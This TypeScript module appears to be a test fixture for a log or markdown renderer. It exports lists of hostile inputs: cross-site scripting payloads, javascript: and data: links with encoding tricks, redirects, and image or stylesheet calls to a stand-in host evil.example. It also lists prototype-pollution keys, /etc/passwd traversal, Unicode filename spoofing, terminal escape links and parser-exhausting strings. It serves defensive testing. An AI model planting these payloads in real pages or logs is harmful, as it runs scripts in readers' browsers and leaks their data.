/** What somebody could write into a log to get something done in the browser of who reads it. */
const SCRIPTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action=//evil.example><form><input type=submit autofocus onfocus=alert(1)>',
  '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>',
  '"><a href="javascript:alert(1)">x</a>',
  "';alert(1)//",
  '{{constructor.constructor("alert(1)")()}}',
];

const LINKS = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x) [y](file:///etc/passwd) [z](blob:x)',
  '![x](https://evil.example/who-reads.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '<javascript:alert(1)>',
  '[x][r]\n\n[r]: javascript:alert(1) "title"',
  '[x](https://ok.example/"onmouseover="alert(1))',
];

const NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'javascript:alert(1)',
  '../../etc/passwd',
];

const CHARACTERS = [
  'safe\u202Egnp.exe\u202C',
  '\ud800 lone \udc00 halves',
  '\u001b]8;;javascript:alert(1)\u0007click\u001b]8;;\u0007',
  '\u0000\u0008\u200b\u2028\ufeff',
];

const FENCES = [
  '```"><script>alert(1)</script>\nx\n```',
  '```__proto__\nx\n```',
  '```html\n<script>alert(1)</script>\n```',
];

/** Texts that are small and mean harm. */
export const harmful: readonly string[] = [...SCRIPTS, ...LINKS, ...NAMES, ...CHARACTERS, ...FENCES];

/** Texts that are large or odd, and cost whoever takes them apart. */
export const costly: readonly string[] = [
  `${'>'.repeat(2000)} deep`,
  `${'> '.repeat(2000)} deep`,
  Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n'),
  '_*'.repeat(10_000),
  '['.repeat(20_000),
  `|${'a|'.repeat(2000)}\n|${'-|'.repeat(2000)}\n|${'b|'.repeat(2000)}`,
  'x'.repeat(1024 * 1024),
  '`'.repeat(5000),
  '<'.repeat(10_000),
];
